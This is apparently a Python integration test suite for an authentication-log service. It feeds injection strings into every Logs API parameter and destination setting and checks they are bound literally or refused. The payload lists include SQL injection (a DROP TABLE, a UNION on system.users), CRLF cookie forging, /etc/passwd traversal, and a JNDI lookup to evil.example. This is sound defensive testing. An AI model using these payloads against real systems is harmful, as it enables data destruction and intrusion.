"""Injection: SQL, header (CRLF), path and template strings in every query parameter of
the Logs view and in every setting of every destination. Nothing reaches ClickHouse
unbound (a value matches itself literally or is refused, and the table is intact) or a
platform unescaped (a setting with CR/LF is refused when saved; what is accepted arrives
at the platform's receiver as the same literal text)."""

from __future__ import annotations

from typing import Any
from urllib.parse import quote

import orjson
from fastapi.testclient import TestClient

from infra.clickhouse.client import connect
from pipeline.enrich import Enricher
from pipeline.normalize import Normalizer
from pipeline.store import EventWriter, Row
from schemas.events import NormalizedEvent, utc_now_ms
from schemas.log_store import ROLLUPS, StoreLocation
from tests.integration.conftest import bearer
from tests.integration.platforms import ALL_PLATFORMS

SQL = [
    "' OR 1=1 --",
    "'; DROP TABLE authtrail.auth_events; --",
    "\\' OR \\'1\\'=\\'1",
    "x') UNION ALL SELECT name FROM system.users --",
    "{event_id:String}",
    "1; SELECT sleep(3)",
]
HEADER = ["a\r\nX-Injected: 1", "a\nSet-Cookie: authtrail_session=forged", "%0d%0aX-Injected:%201"]
PATH = ["../../../etc/passwd", "..%2f..%2fetc%2fpasswd", "/api/v1/destinations", "a/../../b"]
TEMPLATE = ["{{7*7}}", "${jndi:ldap://evil.example/a}", "{db}.{retention_days}", "%s%n%x", "#{7*7}"]
OTHER = ["\x00", "\u202egnp.exe", "a" * 300]
INJECTIONS = SQL + HEADER + PATH + TEMPLATE + OTHER
LOG_PARAMETERS = [
    "q",
    "account",
    "user",
    "type",
    "outcome",
    "from",
    "to",
    "range",
    "tz",
    "sort",
    "order",
    "limit",
    "cursor",
]
# Parameters that filter by value: an injection string is a literal that matches nothing.
VALUE_FILTERS = {"q", "account", "user", "type"}


def total(api_client: TestClient, token: str) -> int:
    reply = api_client.get(
        "/api/v1/logs/timeline",
        params={"from": "1970-01-01T00:00:00Z", "to": "2299-01-01T00:00:00Z"},
        headers=bearer(token),
    )
    assert reply.status_code == 200, reply.text
    return sum(b["success"] + b["failure"] for b in reply.json()["buckets"])


def test_every_log_parameter_binds_injection_strings(
    api_client: TestClient, tokens: dict[str, str]
) -> None:
    admin = tokens["admin"]
    before = total(api_client, admin)
    for parameter in LOG_PARAMETERS:
        for text in INJECTIONS:
            for path in ("/api/v1/logs", "/api/v1/logs/timeline", "/api/v1/logs/export"):
                reply = api_client.get(path, params={parameter: text}, headers=bearer(admin))
                assert reply.status_code in (200, 400, 422), (path, parameter, text, reply.text)
                if reply.status_code != 200:
                    error = reply.json()["errors"][0]
                    assert parameter in (error["parameter"], "from", "to"), (parameter, error)
                elif path == "/api/v1/logs" and parameter in VALUE_FILTERS:
                    assert reply.json()["items"] == [], (parameter, text)
        for name in ("accounts", "users", "types"):
            for text in INJECTIONS:
                reply = api_client.get(
                    f"/api/v1/facets/{name}", params={"q": text}, headers=bearer(admin)
                )
                assert reply.status_code in (200, 422), (name, text, reply.text)
                if reply.status_code == 200:
                    assert reply.json()["values"] == [], (name, text)
    for text in INJECTIONS:
        reply = api_client.get(f"/api/v1/logs/{quote(text, safe='')}", headers=bearer(admin))
        assert reply.status_code in (404, 422), (text, reply.text)
        reply = api_client.get(f"/api/v1/facets/{quote(text, safe='')}", headers=bearer(admin))
        assert reply.status_code in (404, 422), (text, reply.text)
    assert total(api_client, admin) == before  # nothing dropped, nothing added


def test_an_injection_string_that_is_stored_is_found_literally(
    api_client: TestClient, tokens: dict[str, str], store: StoreLocation
) -> None:
    """The other direction: an event whose fields hold the strings is found by them,
    exactly, and by nothing broader."""
    before = total(api_client, tokens["admin"])
    normalizer = Normalizer(Enricher())
    now = utc_now_ms()
    texts = ["' OR 1=1 --", "{{7*7}}", "${jndi:ldap://evil.example/a}"]
    rows = []
    for n, text in enumerate(texts):
        event = normalizer.normalize(
            orjson.dumps(
                {
                    "event_id": f"inject-{n}",
                    "event_key": "login.failed",
                    "occurred_at": now,
                    "account": {"id": f"acct {text}"},
                    "actor": {"id": f"usr {text}"},
                    "user_agent": f"agent {text}",
                }
            ),
            now,
        )
        assert isinstance(event, NormalizedEvent), event
        rows.append(Row.of(event))
    client = connect(store)
    EventWriter(client, store).write(rows)
    admin = bearer(tokens["admin"])
    try:
        for n, text in enumerate(texts):
            for parameter, value in (
                ("q", f"agent {text}"),
                ("account", f"acct {text}"),
                ("user", f"usr {text}"),
            ):
                reply = api_client.get("/api/v1/logs", params={parameter: value}, headers=admin)
                got = [i["event_id"] for i in reply.json()["items"]]
                assert got == [f"inject-{n}"], (parameter, value)
    finally:
        # The session store is shared: the Logs tests compare it with their own oracle.
        client.command(
            f"DELETE FROM {store.storage_table}{store.on_cluster} WHERE event_id LIKE 'inject-%'"
        )
        # A DELETE does not reach the rollups' counts (only retention and erasure are
        # carried to them): their rows of these accounts go too.
        if store.rollups:
            for rollup in ROLLUPS:
                client.command(
                    f"DELETE FROM {store.database}.{rollup} WHERE account_id LIKE 'acct %'"
                )
        client.close()
    assert total(api_client, tokens["admin"]) == before


def test_every_destination_setting_refuses_or_carries_injection_strings_literally(
    api_client: TestClient, tokens: dict[str, str]
) -> None:
    admin = bearer(tokens["admin"])
    listed = api_client.get("/api/v1/destination-types", headers=admin).json()
    types = {t["platform"]: t for t in listed}
    for platform in ALL_PLATFORMS:
        with platform.receiver() as receiver:
            base = platform.settings(receiver)
            fields = types[platform.name]["settings_schema"]["properties"]
            secrets = set(types[platform.name]["secrets"])
            accepted: dict[str, str] = {}
            for field, schema in fields.items():
                if schema.get("type") == "boolean" or "enum" in schema or "const" in schema:
                    continue
                for text in INJECTIONS:
                    body = {
                        "platform": platform.name,
                        "name": "injection",
                        "settings": {**base, field: text},
                    }
                    reply = api_client.post(
                        f"/api/v1/destination-types/{platform.name}/test",
                        headers=admin,
                        json=body,
                    )
                    if "\r" in text or "\n" in text or "\x00" in text:
                        assert reply.status_code == 422, (platform.name, field, reply.text)
                    assert reply.status_code in (200, 422), (platform.name, field, text)
                    if reply.status_code == 422:
                        assert reply.json()["errors"][0]["parameter"].endswith(field), reply.text
                        assert text not in reply.text or len(text) < 3
                    elif field not in ("endpoint", "url") and field not in secrets:
                        accepted.setdefault(field, text)
            # What a platform was sent holds each accepted string as the same literal.
            received = receiver.store.events()
            for field, text in accepted.items():
                assert any(contains(entry, text) for entry in received), (
                    platform.name,
                    field,
                    text,
                )


def contains(value: Any, text: str) -> bool:
    """True when ``text`` occurs in a string anywhere in ``value`` (nested JSON)."""
    if isinstance(value, str):
        return text in value
    if isinstance(value, dict):
        return any(contains(v, text) for v in value.values())
    if isinstance(value, list):
        return any(contains(v, text) for v in value)
    return False
